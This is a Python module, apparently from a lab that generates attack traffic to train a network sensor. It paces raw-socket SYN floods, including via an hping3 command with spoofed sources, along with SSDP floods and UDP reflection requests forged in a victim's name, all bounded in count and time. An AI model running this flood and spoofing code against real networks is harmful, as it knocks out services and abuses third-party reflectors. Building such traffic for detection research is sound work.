"""Floods of SYNs, SSDP and other reflected requests: frames at a pace, bounded in count and time.

Only `trainer.lab.attacks` calls them, after it has made sure of where they run.
"""

import contextlib
import ipaddress
import random
import socket
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

from sensor.errors import HostError
from trainer.lab.attack_report import AttackReport
from trainer.lab.frames import STYLES, ethernet, syn, udp
from trainer.lab.network import ISP_MAC, cables, set_blackhole
from trainer.lab.observer import observed
from trainer.lab.plan import SSDP_GROUP, Attack, Host, Plan
from trainer.lab.programs import run_bounded
from trainer.lab.reflection_protocols import PROTOCOLS
from trainer.lab.upnp import notify, response, search, types_of

LOW_PORT, HIGH_PORT = 1024, 32_767
"""Source ports lie below the kernel's ephemeral ones (32,768 on), so that a flood's flow never
continues a benign one."""

_SSDP_GROUP_MAC = "01:00:5e:7f:ff:fa"  # RFC 1112 section 6.4
_OVERTIME_S = 0.4
"""A flood that has fallen behind its pace stops this long after its time."""
_SHORTEST_SLEEP_S = 0.0005


def pace(kind: str, rate: float, rng: random.Random) -> Iterator[float]:
    """Times of packets in seconds from the start, `rate` a second on average, without end."""
    due = 0.0
    while True:
        if kind == "bursts":
            burst = rng.randint(3, 40)
            yield from [due] * burst
            due += burst / rate
        else:
            yield due
            due += rng.expovariate(rate) if kind == "random" else 1 / rate


def send_paced(
    plan: Plan, host: Host, attack: Attack, report: AttackReport, frames: Iterator[bytes]
) -> None:
    """Sends frames at the attack's pace until its packets or its time are used up."""
    rng = random.Random(attack.seed)
    start = time.monotonic()
    due = pace(attack.settings.get("pace", "even"), attack.settings["rate"], rng)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((cables(plan)[host.name].far, 0))
        for _, at in zip(range(attack.packets), due, strict=False):
            elapsed = time.monotonic() - start
            if at > attack.seconds or elapsed > attack.seconds + _OVERTIME_S:
                break
            if at - elapsed > _SHORTEST_SLEEP_S:
                time.sleep(at - elapsed)
            if (frame := next(frames, None)) is None:
                break
            with contextlib.suppress(OSError):  # the device's queue is full: lost, as on a wire
                sender.send(frame)
                report.sent()


def next_hop(plan: Plan, host: Host, address: str) -> str:
    """The Ethernet address to which a host's packets for `address` go."""
    if host.side == "wan":
        return ISP_MAC
    target = plan.host(address)
    return target.mac if target is not None and target.side == "lan" else plan.gateway.mac


def _source(rng: random.Random, attack: Attack) -> str:
    network = ipaddress.ip_network(rng.choice(attack.sources))
    if network.num_addresses == 1:
        return str(network.network_address)
    return str(network[rng.randrange(1, network.num_addresses - 1)])


def syn_dos(plan: Plan, host: Host, attack: Attack, report: AttackReport) -> None:
    """Sends SYNs and never completes a handshake."""
    if attack.settings["tool"] == "hping3":
        with observed(plan, host, attack, report, 0.0), tempfile.TemporaryDirectory() as folder:
            command = hping3_command(plan, host, attack)
            report.said = run_bounded(command, Path(folder), attack.seconds)
        return
    mute = attack.settings["source"] == "own" and attack.settings["reset"] == "no"
    if mute:
        # The kernel knows nothing of these connections and would reset them.
        with contextlib.suppress(HostError):
            set_blackhole(attack.victim, on=True)
    tuples: set[tuple[str, int]] = set()
    try:
        send_paced(plan, host, attack, report, _syns(plan, host, attack, tuples))
        report.flows = len(tuples)
        if mute:
            time.sleep(3.5)  # until the victim repeats no SYN-ACK any more
    finally:
        if mute:
            with contextlib.suppress(HostError):
                set_blackhole(attack.victim, on=False)


def hping3_command(plan: Plan, host: Host, attack: Attack) -> list[str]:
    """How hping3 is called: it counts its source port up from one that is drawn."""
    rng = random.Random(attack.seed + 1)
    return [
        *("hping3", "-q", "-n", "-S", "-I", cables(plan)[host.name].far, "-t", str(host.ttl)),
        *("-s", str(rng.randint(LOW_PORT, HIGH_PORT // 2)), "-a", _source(rng, attack)),
        *("-i", f"u{max(1, round(1e6 / attack.settings['rate']))}", "-c", str(attack.packets)),
        *("-p", str(attack.port), attack.victim),
    ]


def _syns(plan: Plan, host: Host, attack: Attack, tuples: set[tuple[str, int]]) -> Iterator[bytes]:
    rng = random.Random(attack.seed + 1)
    name = attack.settings["style"]
    link = ethernet(host.mac, next_hop(plan, host, attack.victim))
    port = rng.randint(LOW_PORT, HIGH_PORT)
    while True:
        if name in {"bare", "payload"}:  # hping3 counts its source port up
            port = port + 1 if port < HIGH_PORT else LOW_PORT
        else:
            port = rng.randint(LOW_PORT, HIGH_PORT)
        source = (_source(rng, attack), port)
        tuples.add(source)
        yield link + syn(rng, STYLES[name], host.hops, source, (attack.victim, attack.port))


def ssdp_flood(plan: Plan, host: Host, attack: Attack, report: AttackReport) -> None:
    """Sends SSDP datagrams: searches in the victim's name, or anything to the victim itself."""
    tuples: set[tuple[str, int, str]] = set()
    send_paced(plan, host, attack, report, _datagrams(plan, host, attack, tuples))
    report.flows = len(tuples)


def _datagrams(
    plan: Plan, host: Host, attack: Attack, tuples: set[tuple[str, int, str]]
) -> Iterator[bytes]:
    rng = random.Random(attack.seed + 1)
    mode = attack.settings["mode"]
    targets = attack.reflectors if mode == "reflection" else (attack.victim,)
    hops = {target: next_hop(plan, host, target) for target in targets}
    if mode == "multicast":
        targets = (SSDP_GROUP,)
        hops = {SSDP_GROUP: _SSDP_GROUP_MAC}
    payloads = {
        "notify": [notify(host.address, target, host.name) for target in types_of(host)[:3]],
        "response": [response(host.address, target, host.name) for target in types_of(host)[:3]],
    }.get(mode, [search("ssdp:all", rng.randint(1, 3))])
    ttl = host.ttl
    own_port = attack.port if mode == "response" else rng.randint(LOW_PORT, HIGH_PORT)
    while True:
        many = attack.settings["ports"] == "many"
        port = rng.randint(LOW_PORT, HIGH_PORT) if many else own_port
        source, target = _source(rng, attack), rng.choice(targets)
        tuples.add((source, port, target))
        packet = udp(rng, ttl, (source, port), (target, attack.port), rng.choice(payloads))
        yield ethernet(host.mac, hops[target]) + packet


def udp_reflection(plan: Plan, host: Host, attack: Attack, report: AttackReport) -> None:
    """Sends requests in the victim's name to servers that answer with more."""
    tuples: set[tuple[int, str]] = set()
    send_paced(plan, host, attack, report, _requests(plan, host, attack, tuples))
    report.flows = len(tuples)


def _requests(
    plan: Plan, host: Host, attack: Attack, tuples: set[tuple[int, str]]
) -> Iterator[bytes]:
    rng = random.Random(attack.seed + 1)
    request = PROTOCOLS[attack.settings["protocol"]].request
    links = {each: ethernet(host.mac, next_hop(plan, host, each)) for each in attack.reflectors}
    own_port = rng.choice((80, rng.randint(LOW_PORT, HIGH_PORT)))
    while True:
        many = attack.settings["ports"] == "many"
        port = rng.randint(LOW_PORT, HIGH_PORT) if many else own_port
        target = rng.choice(attack.reflectors)
        tuples.add((port, target))
        packet = udp(rng, host.ttl, (attack.victim, port), (target, attack.port), request(rng))
        yield links[target] + packet
